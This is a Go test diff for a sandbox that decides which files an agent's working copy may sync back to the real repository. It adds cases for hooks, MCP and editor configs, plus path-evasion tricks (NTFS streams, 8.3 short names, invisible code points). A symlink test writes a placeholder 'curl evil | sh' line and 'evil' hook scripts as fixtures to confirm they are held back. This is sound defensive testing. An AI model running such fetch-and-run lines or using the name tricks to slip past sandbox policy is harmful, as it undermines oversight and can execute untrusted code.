@@ -1,6 +1,7 @@
 package mount
 
 import (
+	"context"
 	"os"
 	"path/filepath"
 	"slices"
@@ -79,6 +80,58 @@ func TestCrossingClass(t *testing.T) {
 		{".pnpmfile.cjs", held},
 		{".cargo/config.toml", held},
 		{".cargo/config", held},
+		{".vscode/mcp.json", held},
+		{".cursor/mcp.json", held},
+		{".cursor/hooks.json", held},
+		{".cursor/rules/x.mdc", held},
+		{".zed/tasks.json", held},
+		{".zed/settings.json", held},
+		{".helix/languages.toml", held},
+		{".devcontainer/devcontainer.json", held},
+		{".devcontainer/python/devcontainer.json", held},
+		{".devcontainer.json", held},
+		{"mise.local.toml", held},
+		{".mise.local.toml", held},
+		{"mise.production.toml", held},
+		{".mise/config.toml", held},
+		{".config/mise.toml", held},
+		{".config/mise/config.toml", held},
+		{".config/mise/conf.d/x.toml", held},
+		{"bunfig.toml", held},
+
+		// Names a case-insensitive, Windows or macOS file system takes
+		// for them: NTFS streams, ignorable code points, 8.3 short names.
+		{"AGENTI~1", refused},
+		{"agenti~2", refused},
+		{"AGENTR~1", refused},
+		{"EDITOR~1.AGE", refused}, // .editor.agentignore
+		{"AGENTW~1/workforce/personas/x.json", refused},
+		{"AG1A2B~1", refused}, // the hashed form
+		{".agentignore::$DATA", refused},
+		{".agentignore:x", refused},
+		{".agentworkforce::$INDEX_ALLOCATION/x", refused},
+		{".agent\u200bignore", refused},
+		{"\ufeff.agentignore", refused},
+		{".agentıgnore", refused}, // the dotless ı is I in upper case
+		{"CLAUDE~1/settings.json", held},
+		{"MCP~1.JSO", held},
+		{"VSCODE~1/tasks.json", held},
+		{".vscode/TASKS~1.JSO", held},
+		{"OPENCO~1.JSO", held},
+		{"PROJ~1.COD", held}, // a .code-workspace
+		{".c\u200claude/settings.json", held},
+		{".claude::$INDEX_ALLOCATION/settings.json", held},
+		{".mcp.json:stream", held},
+		{"sub\\.envrc", held}, // a backslash separates names on Windows
+		{"ENVRC~1", held},
+		{"CLAUDE~1.JSO", held}, // .claude.json
+		{"MAIN~1.GO", syncs},
+		{"README~1", syncs},
+		{"CLAUDE~1.TXT", syncs}, // no .claude*.txt is held
+		{"MCP~1", syncs},        // .mcp.json's short name has its extension
+		{"GIT~1.TXT", syncs},
+		{"x~y", syncs},
+		{"abcdefg~1", syncs}, // more than 6 characters before ~
 
 		// What syncs back as ever.
 		{"main.go", syncs},
@@ -133,10 +186,12 @@ func TestPathRules(t *testing.T) {
 
 // FuzzCrossingClass checks properties of the classification of any
 // path: a path below a matching one matches (a directory holds what is
-// below it), a path in another case or with trailing dots matches as the
-// path does, and so does the path below a directory.
+// below it), a path in another case, with trailing dots, with an NTFS
+// stream, with a code point a file system ignores, or with its last name
+// in the 8.3 short form Windows would give it matches as the path does,
+// and so does the path below a directory.
 func FuzzCrossingClass(f *testing.F) {
-	for _, s := range []string{".agentignore", ".claude/settings.json", "a/.opencode/plugin/p.js", "main.go", ".X.agentignore", "lefthook.yml", "é/.ENVRC"} {
+	for _, s := range []string{".agentignore", ".claude/settings.json", "a/.opencode/plugin/p.js", "main.go", ".X.agentignore", "lefthook.yml", "é/.ENVRC", ".mcp.json", "x/.vscode/tasks.json", "mise.local.toml"} {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, rel string) {
@@ -156,6 +211,15 @@ func FuzzCrossingClass(f *testing.F) {
 			}
 			if is(rel+".") != got {
 				t.Errorf("%q and %q. differ", rel, rel)
+			}
+			if is(rel+"::$DATA") != got {
+				t.Errorf("%q and %q::$DATA differ", rel, rel)
+			}
+			if is("\u200c"+strings.ReplaceAll(rel, "/", "/\ufeff")) != got {
+				t.Errorf("%q with ignorable code points differs", rel)
+			}
+			if short, ok := shortForm(rel); ok && got && !is(short) {
+				t.Errorf("%q matches, its short form %q does not", rel, short)
 			}
 		}
 	})
@@ -249,5 +313,134 @@ func TestPathRulesDocumented(t *testing.T) {
 				t.Errorf("docs/run.md does not list %q", r.Pattern)
 			}
 		}
+	}
+}
+
+// shortForm returns rel with its last name in the 8.3 short form Windows
+// gives a long name (~1), when it is one Windows would make of the name
+// as it is: letters, digits, dots, - and _ only, and not already 8.3.
+func shortForm(rel string) (string, bool) {
+	dir, name := "", rel
+	if i := strings.LastIndexByte(rel, '/'); i >= 0 {
+		dir, name = rel[:i+1], rel[i+1:]
+	}
+	for _, c := range []byte(name) {
+		if !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '.' || c == '-' || c == '_') {
+			return "", false
+		}
+	}
+	q := strings.TrimLeft(name, ".")
+	base, ext := q, ""
+	if i := strings.LastIndexByte(q, '.'); i >= 0 {
+		base, ext = q[:i], q[i+1:]
+	}
+	base = strings.ReplaceAll(base, ".", "")
+	if base == "" {
+		return "", false
+	}
+	base, ext = base[:min(len(base), 6)], ext[:min(len(ext), 3)]
+	short := strings.ToUpper(base) + "~1"
+	if ext != "" {
+		short += "." + strings.ToUpper(ext)
+	}
+	return dir + short, true
+}
+
+// TestKeepLinked: what a policy file or executable configuration is
+// through a link of the real tree (a file, a directory, a chain, one in
+// a directory the copy leaves out), and the git hooks directory with
+// where the links in it lead, are kept back as the tables' paths are,
+// by Sync and by a sandbox Open reads again; a link out of the tree adds
+// nothing.
+func TestKeepLinked(t *testing.T) {
+	base := t.TempDir()
+	root := filepath.Join(base, "root")
+	for name, content := range map[string]string{
+		"policy/agentignore":                  "ignored/\n",
+		"policy/aw/workforce/personas/a.json": "{}\n",
+		"tools/claude/settings.json":          "{}\n",
+		"conf/mcp.json":                       "{}\n",
+		"tools/hooks/.keep":                   "",
+		"scripts/pre-push":                    "#!/bin/sh\n",
+		"scripts/lint.sh":                     "#!/bin/sh\n",
+		"env/envrc":                           "export A=1\n",
+		"outside/x":                           "",
+		"main.go":                             "package main\n",
+	} {
+		write(t, filepath.Join(root, name), content)
+	}
+	for link, target := range map[string]string{
+		".agentignore":           "policy/agentignore",
+		".agentworkforce":        "policy/aw",
+		".claude":                "tools/claude",
+		".mcp.json":              "chain",
+		"chain":                  "conf/mcp.json",                  // a chain: .mcp.json -> chain -> conf/mcp.json
+		"ignored/.envrc":         "../env/envrc",                   // left out by .agentignore
+		".vscode":                filepath.Join(base, "elsewhere"), // out of the tree
+		"tools/hooks/pre-commit": "../../scripts/lint.sh",          // in the hooks directory
+	} {
+		must(t, os.MkdirAll(filepath.Dir(filepath.Join(root, link)), 0o755))
+		must(t, os.Symlink(target, filepath.Join(root, link)))
+	}
+	// The hooks of a repository whose git directory is out of the tree
+	// (a worktree's): a link there leads into it.
+	hooks := filepath.Join(base, "gitdir", "hooks")
+	must(t, os.MkdirAll(hooks, 0o755))
+	must(t, os.Symlink(filepath.Join(root, "scripts/pre-push"), filepath.Join(hooks, "pre-push")))
+
+	for _, tt := range []struct {
+		hooks                  string
+		policies, heldPaths    []string
+		held, created, updated []string
+	}{
+		{
+			// core.hooksPath tools/hooks: held, and where its
+			// pre-commit link leads.
+			hooks:     filepath.Join(root, "tools/hooks"),
+			policies:  []string{"policy/agentignore", "policy/aw"},
+			heldPaths: []string{"chain", "conf/mcp.json", "env/envrc", "scripts/lint.sh", "tools/claude", "tools/hooks"},
+			held:      []string{"conf/mcp.json", "env/envrc", "scripts/lint.sh", "tools/claude/settings.json", "tools/hooks/post-checkout"},
+			updated:   []string{"main.go", "scripts/pre-push"},
+		},
+		{
+			// The default hooks directory, out of the tree: where its
+			// pre-push link leads.
+			hooks:     hooks,
+			policies:  []string{"policy/agentignore", "policy/aw"},
+			heldPaths: []string{"chain", "conf/mcp.json", "env/envrc", "scripts/pre-push", "tools/claude"},
+			held:      []string{"conf/mcp.json", "env/envrc", "scripts/pre-push", "tools/claude/settings.json"},
+			created:   []string{"tools/hooks/post-checkout"},
+			updated:   []string{"main.go", "scripts/lint.sh"},
+		},
+	} {
+		s, err := create(context.Background(), Options{Home: filepath.Join(base, "home"), Persona: "p", Root: root, Cwd: root, HooksDirs: []string{tt.hooks}})
+		must(t, err)
+		if !slices.Equal(s.policyPaths, tt.policies) || !slices.Equal(s.heldPaths, tt.heldPaths) {
+			t.Errorf("hooks %s: policy paths %q, held paths %q; want %q, %q", tt.hooks, s.policyPaths, s.heldPaths, tt.policies, tt.heldPaths)
+		}
+		tree := s.Tree
+		write(t, filepath.Join(tree, "policy/agentignore"), "")
+		write(t, filepath.Join(tree, "policy/aw/workforce/personas/editor.json"), "{}\n")
+		write(t, filepath.Join(tree, "tools/claude/settings.json"), `{"hooks": {}}`)
+		write(t, filepath.Join(tree, "conf/mcp.json"), `{"mcpServers": {}}`)
+		write(t, filepath.Join(tree, "env/envrc"), "curl evil | sh\n")
+		write(t, filepath.Join(tree, "scripts/pre-push"), "#!/bin/sh\nevil\n")
+		write(t, filepath.Join(tree, "scripts/lint.sh"), "#!/bin/sh\nevil\n")
+		write(t, filepath.Join(tree, "tools/hooks/post-checkout"), "#!/bin/sh\nevil\n")
+		write(t, filepath.Join(tree, "main.go"), "package main // the agent\n")
+		must(t, s.Save())
+		opened, err := Open(s.Dir)
+		must(t, err)
+		for i, box := range []*Sandbox{s, opened} {
+			r, err := syncWithin(t, box, SyncOptions{Deletes: true, DryRun: true})
+			must(t, err)
+			if want := []string{"policy/agentignore", "policy/aw/workforce/personas/editor.json"}; !slices.Equal(r.Refused, want) {
+				t.Errorf("hooks %s, sandbox %d: Refused = %q, want %q", tt.hooks, i, r.Refused, want)
+			}
+			if !slices.Equal(r.Held, tt.held) || !slices.Equal(r.Created, tt.created) && len(r.Created)+len(tt.created) > 0 || !slices.Equal(r.Updated, tt.updated) {
+				t.Errorf("hooks %s, sandbox %d: held %q, created %q, updated %q; want %q, %q, %q", tt.hooks, i, r.Held, r.Created, r.Updated, tt.held, tt.created, tt.updated)
+			}
+		}
+		must(t, s.Remove())
 	}
 }
